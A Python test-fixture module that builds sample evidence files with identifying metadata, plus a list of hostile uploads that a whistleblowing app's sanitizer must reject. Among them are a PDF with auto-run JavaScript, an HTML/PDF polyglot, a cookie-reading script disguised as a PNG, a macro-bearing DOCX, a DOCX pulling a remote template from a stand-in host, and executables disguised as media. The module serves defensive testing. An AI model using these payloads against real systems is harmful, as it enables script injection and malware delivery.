"""Real evidence files made on the spot for the content-check tests: with metadata, and hostile ones."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from mutagen import id3
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

from wbs_app.services import evidence, sanitize

AUTHOR = "Budi Santoso NIP 198001012005011001"
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode"
)


def jpeg_with_gps() -> bytes:
    """A phone photo: GPS position, make and model, rotated 90 degrees by its EXIF orientation, XMP, comment.
    Its left half is red and its right half blue, as stored (before the orientation is applied)."""
    image = Image.new("RGB", (40, 20), "blue")
    image.paste((255, 0, 0), (0, 0, 20, 20))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "samsung"
    exif[ExifTags.Base.Model] = "SM-A525F"
    exif[ExifTags.Base.Orientation] = 6  # shown turned 90 degrees clockwise
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = (6.0, 10.0, 30.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (106.0, 49.0, 12.0)
    buffer = io.BytesIO()
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{AUTHOR}</x:xmpmeta>".encode()
    image.save(buffer, "JPEG", exif=exif, xmp=xmp, comment=AUTHOR.encode(), quality=95)
    return buffer.getvalue()


def png_with_text() -> bytes:
    image = Image.new("RGB", (8, 8), (0, 128, 0))
    info = PngInfo()
    info.add_text("Author", AUTHOR)
    info.add_itxt("Comment", "diambil di ruang kepala dinas", lang="id")
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def pdf_document(*, author: str = AUTHOR, javascript: str = "") -> bytes:
    """A one-page PDF with the author in the document info and in XMP (as a word processor writes them)."""
    document = pikepdf.new()
    document.add_blank_page()
    document.docinfo["/Author"] = author
    document.docinfo["/Producer"] = "Microsoft Word 2019"
    with document.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [author]
    if javascript:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(javascript))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pdf_html_polyglot() -> bytes:
    """A PDF that a browser would also render as a web page (the HTML sits in a PDF comment)."""
    pdf = pdf_document(author="x")
    header_end = pdf.index(b"\n") + 1
    return pdf[:header_end] + b"%<html><body><script>fetch('/_event')</script></body></html>\n" + pdf[header_end:]


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/comments.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
    '<Override PartName="/docProps/core.xml" '
    'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    '<Override PartName="/docProps/app.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
    "</Types>"
)
_DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
    'core-properties" Target="docProps/core.xml"/>'
    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'extended-properties" Target="docProps/app.xml"/>'
    "</Relationships>"
)


def docx_document(*, extra: dict[str, bytes] | None = None, document_rels: str = "") -> bytes:
    """A Word document whose properties name its author and whose comment (and tracked change) names him."""
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{AUTHOR}</dc:creator><cp:lastModifiedBy>{AUTHOR}</cp:lastModifiedBy>"
        "</cp:coreProperties>"
    )
    app = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Application>Microsoft Office Word</Application><Company>Inspektorat Kota</Company></Properties>"
    )
    body = (
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:ins w:id="1" w:author="{AUTHOR}">'
        "<w:r><w:t>Kuitansi fiktif pengadaan server.</w:t></w:r></w:ins></w:p></w:body></w:document>"
    )
    comments = (
        f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{AUTHOR}" w:initials="BS">'
        "<w:p><w:r><w:t>cek tanggal</w:t></w:r></w:p></w:comment></w:comments>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'comments" Target="comments.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink" Target="https://lpse.example.go.id/" TargetMode="External"/>'
        f"{document_rels}</Relationships>"
    )
    members = {
        "[Content_Types].xml": _DOCX_TYPES.encode(),
        "_rels/.rels": _DOCX_RELS.encode(),
        "docProps/core.xml": core.encode(),
        "docProps/app.xml": app.encode(),
        "word/document.xml": body.encode(),
        "word/comments.xml": comments.encode(),
        "word/_rels/document.xml.rels": rels.encode(),
        **(extra or {}),
    }
    return _zip(members)


def zip_archive(members: dict[str, bytes]) -> bytes:
    return _zip(members)


def mp3_with_tags() -> bytes:
    """Two seconds of (silent) MPEG-1 Layer III frames with ID3 tags naming the recorder."""
    frame = b"\xff\xfb\x90\x00" + b"\x00" * 413  # 128 kbit/s, 44.1 kHz: 417 bytes per frame
    path = io.BytesIO(frame * 80)
    tags = id3.ID3()
    tags.add(id3.TPE1(encoding=3, text=[AUTHOR]))
    tags.add(id3.TIT2(encoding=3, text=["Rekaman rapat pengadaan"]))
    tags.add(id3.TSSE(encoding=3, text=["Samsung Voice Recorder"]))
    tags.save(path)
    return path.getvalue()


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I4s", len(payload) + 8, kind) + payload


def mp4_with_location() -> bytes:
    """A minimal MP4 with a movie header, a GPS position (©xyz) and the phone's make and model in its
    user data, as Android cameras write them, and media data after the movie box."""
    mvhd = _box(b"mvhd", struct.pack(">B3xIIII", 0, 0, 0, 1000, 2000) + b"\x00" * 80)
    location = _box(b"\xa9xyz", struct.pack(">HH", 18, 0) + b"-06.1751+106.8650/")
    make = _box(b"\xa9mak", struct.pack(">HH", 7, 0) + b"samsung")
    model = _box(b"\xa9mod", struct.pack(">HH", 8, 0) + b"SM-A525F")
    moov = _box(b"moov", mvhd + _box(b"udta", location + make + model))
    return _box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41") + moov + _box(b"mdat", b"\x00" * 64)


def rar_archive(names: list[str]) -> bytes:
    """A RAR 4 archive storing small files (made by hand: no rar program is needed to build it)."""

    def block(kind: int, flags: int, body: bytes) -> bytes:
        header = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(header) & 0xFFFF) + header

    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, b"\x00" * 6)
    for name in names:
        content = b"isi " + name.encode()
        encoded = name.encode()
        body = struct.pack(
            "<IIBIIBBHI", len(content), len(content), 2, zlib.crc32(content), 0x5A2C6000, 20, 0x30, len(encoded), 0x20
        )
        out += block(0x74, 0x8000, body + encoded) + content
    return out + block(0x7B, 0x4000, b"")


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

# Files that must be refused: (name, content, a part of the reason the reporter is told).
HOSTILE = [
    # The eight files that used to be accepted.
    ("undangan.pdf", pdf_html_polyglot(), "kode HTML tersembunyi"),
    ("laporan.pdf", pdf_document(javascript="app.launchURL('http://x.example/')"), "JavaScript"),
    ("dokumen.pdf", b"%PDF-1.7\n" + EXE + b"\n%%EOF\n", "memuat program"),
    ("foto.png", b"\x89PNG\r\n\x1a\n<html><script>alert(document.cookie)</script></html>", "bukan gambar PNG"),
    ("rekaman.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00<html>" + b"A" * 3000, "bukan audio MP3"),
    ("notulen.docx", docx_document(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}), "makro"),
    ("bukti.zip", zip_archive({"kontrak.pdf": b"%PDF-1.4", "setup.exe": EXE}), "setup.exe"),
    ("arsip.zip", b"PK\x03\x04" + b"\x00" * 200, "bukan arsip ZIP"),
    # More of the same families.
    ("program.zip", zip_archive({"foto.jpg": EXE}), "program"),
    ("berlapis.zip", zip_archive({"dalam.zip": zip_archive({"run.bat": b"@echo"})}), "run.bat"),
    ("arsip.rar", rar_archive(["kontrak.pdf", "alat/setup.exe"]), "setup.exe"),
    ("arsip2.rar", b"Rar!\x1a\x07\x00" + b"\x00" * 200, "bukan arsip RAR"),
    ("video.mp4", b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isom" + EXE, "bukan video MP4"),
    ("suara.mp3", b"\xff\xfb\x90\x00" + EXE * 40, "bukan audio MP3"),
    ("foto.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 64 + EXE, "bukan gambar JPEG"),
    ("kontrak.pdf", pdf_document() + b"<html><script>alert(1)</script></html>", "data asing setelah"),
    (
        "templat.docx",
        docx_document(
            document_rels=f'<Relationship Id="rId9" Type="{REL}/attachedTemplate" '
            'Target="http://x.example/t.dotm" TargetMode="External"/>'
        ),
        "mengambil isi dari luar",
    ),
]


# The draft area's key in tests that run without a database (the app reads it from app_setting).
DRAFTS_KEY = bytes(range(32))


def receive(folder, name: str, data: bytes) -> evidence.ReceivedFile:
    """What the upload handler does with one file: stream it in (encrypted), then check and clean it."""
    incoming = evidence.IncomingFile(folder=folder, filename=name, max_bytes=20 * evidence.MB, drafts_key=DRAFTS_KEY)
    incoming.write(data)
    return sanitize.clean_received(incoming.finish(), drafts_key=DRAFTS_KEY)


def kept(received: evidence.ReceivedFile) -> bytes:
    """What the draft folder holds for a received file, decrypted."""
    return evidence.read_draft_file(received.temp_path, drafts_key=DRAFTS_KEY)
